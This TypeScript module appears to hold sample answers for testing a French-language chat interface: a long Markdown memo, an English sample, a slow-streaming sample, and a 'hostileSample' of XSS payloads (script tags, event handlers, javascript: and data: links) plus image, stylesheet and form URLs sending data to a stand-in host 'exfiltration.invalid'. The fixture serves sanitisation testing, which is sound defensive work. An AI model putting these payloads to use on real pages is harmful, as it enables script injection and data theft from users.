const paragraph = (subject: string) =>
  `Cette partie décrit ${subject}. Elle rappelle le cadre, nomme le service responsable et indique l’échéance. ` +
  'Chaque point reste à confirmer par le service concerné avant toute présentation en séance\u00a0: [À COMPLÉTER]. ' +
  'Les montants sont donnés hors taxes, les délais en jours ouvrés, et les références renvoient au dossier.'

const chapter = (title: string, subject: string) => `## ${title}

${paragraph(subject)}

${paragraph('ce qui en découle pour les services')}

### Points à vérifier

1. L’information figure-t-elle au dossier ?
2. Le service a-t-il donné son accord ?
3. La date est-elle compatible avec la prochaine séance ?

- [x] Visa du service
- [ ] Relecture juridique, *puis* signature

> Un point non vérifié reste **à compléter**.
`

/** Long answer: about 1,500 words of structured Markdown, with headings, lists, table, quotation and code. */
export const longSample = (): string => `# Note de cadrage

Ce texte de démonstration montre une réponse longue et structurée.

| Étape | Service | Échéance | Montant |
| --- | --- | ---: | ---: |
| Diagnostic | Direction générale | 15 mars | 12 000 € |
| Concertation | Vie citoyenne | 30 avril | 4 500 € |
| Réalisation | Services techniques | 1er octobre | 185 000 € |

${[
  ['Contexte', 'le contexte de la demande'],
  ['Cadre juridique', 'les textes applicables'],
  ['Diagnostic', 'la situation actuelle'],
  ['Objectifs', 'les objectifs poursuivis'],
  ['Scénarios', 'les scénarios possibles'],
  ['Calendrier', 'le calendrier prévisionnel'],
  ['Budget', 'le plan de financement'],
  ['Gouvernance', 'le pilotage du projet'],
  ['Concertation', 'la participation des habitants'],
  ['Évaluation', 'les indicateurs de suivi'],
]
  .map(([title, subject]) => chapter(title!, subject!))
  .join('\n')}
\`\`\`text
objet : note de cadrage
statut : [À COMPLÉTER]
\`\`\`

En résumé\u00a0: trois étapes, dix chapitres, et des points à confirmer.`

/** Answer with hostile content, which the interface must show as text. */
export const hostileSample = (): string => `Voici des contenus hostiles, à afficher comme du texte.

<script>window.__xss=1</script> <img src=x onerror="window.__xss=2"> <svg onload="window.__xss=3"></svg>

<iframe srcdoc="<script>parent.__xss=4</script>"></iframe> <math><mtext></mtext></math> <style>@import url(https://exfiltration.invalid/a.css)</style>

[lien](javascript:window.__xss=5) [donnée](data:text/html,<script>window.__xss=6</script>) [vb](vbscript:msgbox) <javascript:window.__xss=7>

![image](https://exfiltration.invalid/x.png?d=secret) ![ref][r] [https://mairie.example](https://exfiltration.invalid/)

[r]: https://exfiltration.invalid/y.png "titre"

<a href="  javascript:window.__xss=8">clic</a> <form action="https://exfiltration.invalid/"><button>Envoyer</button></form>

Fin.`

/** Answer in English, to test the detection of languages. */
export const englishSample = (): string =>
  'This demonstration answer is written in English on purpose. It contains two short sentences and one list.\n\n- First item\n- Second item'

/** Answer of exactly 200 words, to be watched while it is written. */
export const slowSample = (): string => Array.from({ length: 20 }, (_, i) => `Phrase ${i + 1} de la réponse lente, lue mot à mot.`).join(' ')
